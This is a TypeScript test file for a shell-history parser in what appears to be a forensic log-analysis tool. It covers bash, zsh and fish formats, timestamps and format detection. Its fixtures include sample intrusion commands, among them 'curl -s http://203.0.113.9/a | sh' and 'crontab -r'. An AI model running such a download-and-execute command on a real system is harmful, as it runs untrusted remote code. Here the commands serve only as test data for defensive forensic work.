import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { Event } from '../../event/event.ts'
import { readTexts, type TextFile } from '../samples/read-texts.ts'
import { syslog } from '../syslog/index.ts'
import { shellHistory } from './index.ts'

const T = Date.UTC(2026, 4, 12, 3) / 1000
const BASH = `ls -la\ncd /tmp\n#${T}\ncurl -s http://203.0.113.9/a | sh\n#${T + 5}\nfor i in 1 2; do\n  echo $i\ndone\n#${T - 60}\ncrontab -r\n`
const ZSH = `: ${T}:0;pkill xmrig\n: ${T + 1}:3;echo a \\\nb\n: ${T + 2}:0;ls\n`
const FISH = `- cmd: echo "a\\nb"\n  when: ${T}\n- cmd: rm -rf /tmp/x\n  when: ${T + 9}\n  paths:\n    - /tmp/x\n`
const PLAIN = 'cd /var/log\ntail -f syslog\nsudo systemctl restart nginx\n./deploy.sh\nexit\n'
const FILE_MS = Date.UTC(2026, 4, 13)

async function read(...files: TextFile[]) {
  const { events, reports } = await readTexts(shellHistory, files)
  for (const event of events) Event.parse(event)
  const commands = events.map((event) => {
    if (event.kind !== 'process') throw new Error('a history gives processes')
    return { ...event, seconds: event.timeQuality === 'exact' ? event.time / 1000 - T : null }
  })
  return { commands, report: reports[0] }
}

const file = (name: string, text: string): TextFile => ({ name, text, group: name, modifiedAt: FILE_MS })

describe('shell-history', () => {
  it('reads bash: with times in their order, without at the date of the file', async () => {
    const { commands, report } = await read({
      name: 'web-1/root/.bash_history',
      text: BASH,
      modifiedAt: FILE_MS,
    })
    expect(commands.map(({ commandLine, seconds }) => [commandLine, seconds])).toEqual([
      ['crontab -r', -60],
      ['curl -s http://203.0.113.9/a | sh', 0],
      ['for i in 1 2; do\n  echo $i\ndone', 5],
      ['ls -la', null],
      ['cd /tmp', null],
    ])
    expect(commands[0]).toMatchObject({
      args: ['bash', '-c', 'crontab -r'],
      actor: { uid: 0, pid: null, name: 'bash' },
    })
    expect(commands[3]).toMatchObject({ time: FILE_MS, timeQuality: 'unknown', origin: { line: 1 } })
    expect(report).toMatchObject({ format: 'bash', records: 5, to: (T + 5) * 1000 })
    expect(report?.decisions).toEqual([
      '2 commands do not say when it was typed: no later than the file’s date',
    ])
  })

  it('reads zsh and fish, with commands of several lines', async () => {
    const zsh = await read({ name: 'home/alice/.zsh_history', text: ZSH })
    expect(zsh.commands.map(({ commandLine, seconds }) => [commandLine, seconds])).toEqual([
      ['pkill xmrig', 0],
      ['echo a \nb', 1],
      ['ls', 2],
    ])
    expect(zsh.commands[0]?.actor).toMatchObject({ uid: null, name: 'zsh' })
    const fish = await read({ name: 'fish_history', text: FISH })
    expect(fish.commands.map(({ commandLine, seconds }) => [commandLine, seconds])).toEqual([
      ['echo "a\nb"', 0],
      ['rm -rf /tmp/x', 9],
    ])
  })

  it('leaves out what nobody can place, and what lies ahead', async () => {
    const { commands, report } = await read({ name: 'h', text: `${PLAIN}#9999999999\nid\n` })
    expect(commands).toEqual([])
    expect(report).toMatchObject({ records: 6, unused: 6 })
    expect(report?.problems).toEqual(['6 commands do not say when, and neither does the file: not used'])
  })

  it('takes histories below one folder for one machine, and others for others', async () => {
    const { commands } = await read(
      file('a/root/.bash_history', 'ls -l\n'),
      file('a/home/bob/.bash_history', 'pwd\n'),
      file('b/root/.bash_history', 'id\n'),
    )
    const machine = (text: string) => commands.find(({ commandLine }) => commandLine === text)?.observer
    expect(machine('ls -l')).toBe(machine('pwd'))
    expect(machine('id')).not.toBe(machine('pwd'))
  })

  it('counts a copy once', async () => {
    const { commands, report } = await read(
      { name: 'a/root/.bash_history', text: BASH, modifiedAt: FILE_MS },
      { name: 'a/root/.bash_history', text: BASH, modifiedAt: FILE_MS },
    )
    expect(commands).toHaveLength(5)
    expect(report?.duplicates).toBeGreaterThanOrEqual(0)
  })

  it.each([
    ['bash with times', BASH, true],
    ['bash without times', PLAIN, true],
    ['zsh', ZSH, true],
    ['fish', FISH, true],
    ['a script', `#!/bin/sh\n${PLAIN}`, false],
    ['a script without its first line', 'if true; then\n  ls\nfi\ncd /tmp\nls\nls\n', false],
    ['prose', 'This is a note.\nIt was written by hand.\nNothing else.\n', false],
    [
      'syslog',
      'May 12 03:14:05 web-1 sshd[7]: Accepted password for root from 192.0.2.6 port 1 ssh2\n',
      false,
    ],
    ['keys and values', 'a=1\nb=2\nc=3\n', false],
    ['nothing', '', false],
  ])('recognises %s: %s', (_, text, isOwn) => {
    const own = shellHistory.recognise(Buffer.from(text))
    expect(own > 0.1 && own > syslog.recognise(Buffer.from(text))).toBe(isOwn)
  })

  it('reads any bytes without failing, and cut anywhere the same', async () => {
    const piece = fc.constantFrom(
      '#1778555645\n',
      ': 1778555645:0;',
      '- cmd: ',
      '  when: 1778555645\n',
      '\\\n',
      '\n',
      'ls',
      '\0',
      '\\n',
    )
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.oneof(piece, fc.string({ maxLength: 6 })), { maxLength: 40 }),
        fc.integer({ min: 1, max: 64 }),
        async (pieces, chunkBytes) => {
          const text = pieces.join('')
          shellHistory.recognise(Buffer.from(text))
          const whole = await read({ name: 'h', text, modifiedAt: FILE_MS })
          const cut = await read({ name: 'h', text, modifiedAt: FILE_MS, chunkBytes })
          expect(cut.commands).toEqual(whole.commands)
        },
      ),
      { seed: 11, numRuns: 200 },
    )
  })
})
